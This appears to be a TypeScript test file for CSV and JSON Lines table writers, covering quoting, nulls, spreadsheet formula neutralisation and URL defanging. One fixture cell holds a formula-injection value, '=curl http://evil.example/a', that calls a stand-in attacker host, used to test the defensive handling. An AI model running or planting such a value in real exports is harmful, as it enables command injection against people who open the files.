import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ColumnData } from '../../../main/contract/index.ts';
import { createDelimitedWriter, createJsonLinesWriter, jsonArray } from '../../../main/table/row-text.ts';

const us = Date.UTC(2026, 2, 11, 22, 4, 17, 482) * 1_000;
const numbers = (name: string, type: ColumnData['type'], values: (number | null)[]): ColumnData => ({
  kind: 'number', name, type, values: Float64Array.from(values, (v) => v ?? 0), nulls: values.includes(null) ? Uint8Array.from(values, (v) => (v === null ? 1 : 0)) : null,
});
const texts = (name: string, type: ColumnData['type'], values: (string | null)[]): ColumnData => ({ kind: 'text', name, type, values, cut: null });

const columns: ColumnData[] = [
  numbers('When', 'datetime', [us, null]),
  texts('Id', 'int', ['9223372036854775807', null]),
  numbers('Score', 'float', [1e300, Number.NaN]),
  numbers('Ok', 'bool', [1, 0]),
  numbers('Took', 'timespan', [90_061_500_000, -1]),
  texts('Cmd, "x"', 'string', ['=curl http://evil.example/a', '']),
  texts('Extra', 'dynamic', ['{"id": 12345678901234567890,\n "ip": "10.0.0.5"}', 'not json']),
];

describe('delimited text', () => {
  it('is exact, quoted where needed, and tells null from empty', () => {
    const writer = createDelimitedWriter(',', '\r\n', { defang: false });
    expect(writer.header(columns.map((c) => c.name)) + writer.rows(columns, 0, 2)).toBe(
      'When,Id,Score,Ok,Took,"Cmd, ""x""",Extra\r\n' +
        '2026-03-11T22:04:17.482Z,9223372036854775807,1e+300,true,1.01:01:01.500,=curl http://evil.example/a,"{""id"": 12345678901234567890,\n ""ip"": ""10.0.0.5""}"\r\n' +
        ',,NaN,false,-00:00:00.000001,"",not json\r\n',
    );
  });
  it('neutralises texts and headers, never numbers, and counts', () => {
    const writer = createDelimitedWriter('\t', '\n', { defang: true, neutraliseFormulas: true });
    const cells: ColumnData[] = [numbers('=n', 'float', [-1.5]), texts('s', 'string', ['=http://a.com']), texts('n', 'string', ['-7'])];
    expect(writer.header(cells.map((c) => c.name)) + writer.rows(cells, 0, 1)).toBe("'=n\ts\tn\n-1.5\t'=hxxp://a[.]com\t-7\n");
    expect(writer.neutralisedCells).toBe(2);
  });
  it('never has a row without a character', () => {
    expect(createDelimitedWriter(',', '\n', { defang: false }).rows([texts('a', 'string', [null, ''])], 0, 2)).toBe('""\n""\n');
  });
  it('is read back as it was', () => {
    const parse = (csv: string): string[][] => {
      const rows: string[][] = [];
      const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
      const row: string[] = [];
      for (let m = cell.exec(csv); m !== null && m[0] !== ''; m = cell.exec(csv)) {
        row.push(m[1]?.replaceAll('""', '"') ?? m[2] ?? '');
        if (m[3] === '\r\n') rows.push(row.splice(0));
      }
      return rows;
    };
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { minLength: 1, maxLength: 8 }), (rows) => {
        const data = [0, 1].map((i) => texts(`c${i}`, 'string', rows.map((r) => r[i] ?? null)));
        expect(parse(createDelimitedWriter(',', '\r\n', { defang: false }).rows(data, 0, rows.length))).toEqual(rows);
      }),
    );
  });
});

describe('JSON', () => {
  it('keeps digits, nests dynamic values, one object per line', () => {
    const [first, second] = createJsonLinesWriter({ defang: false }).rows(columns, 0, 2).trimEnd().split('\n');
    expect(first).toBe(
      '{"When":"2026-03-11T22:04:17.482Z","Id":9223372036854775807,"Score":1e+300,"Ok":true,"Took":"1.01:01:01.500","Cmd, \\"x\\"":"=curl http://evil.example/a","Extra":{"id": 12345678901234567890, "ip": "10.0.0.5"}}',
    );
    expect(JSON.parse(second ?? '')).toEqual({ When: null, Id: null, Score: 'NaN', Ok: false, Took: '-00:00:00.000001', 'Cmd, "x"': '', Extra: 'not json' });
  });
  it('defangs texts inside dynamic values and nothing else', () => {
    const lines = createJsonLinesWriter({ defang: true }).rows(columns, 0, 1);
    expect(lines).toContain('"ip": "10[.]0[.]0[.]5"');
    expect(lines).toContain('"id": 12345678901234567890');
    expect(lines).toContain('=curl hxxp://evil[.]example/a');
  });
  it('is valid whatever stands in it', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.json()), { maxLength: 5 }), fc.boolean(), (rows, inert) => {
        const data = [texts('__proto__', 'string', rows.map((r) => r[0])), texts('d', 'dynamic', rows.map((r) => r[1]))];
        const parsed = JSON.parse(jsonArray(data, rows.length, { defang: inert })) as unknown[];
        expect(parsed.length).toBe(rows.length);
      }),
    );
  });
});
